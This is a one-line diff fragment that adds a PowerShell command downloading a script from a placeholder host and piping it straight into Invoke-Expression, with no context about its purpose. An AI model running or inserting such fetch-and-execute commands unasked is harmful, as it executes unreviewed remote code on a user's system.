@@ -1,0 +1,1 @@
+iwr https://get.setup.invalid/install.ps1 | iex
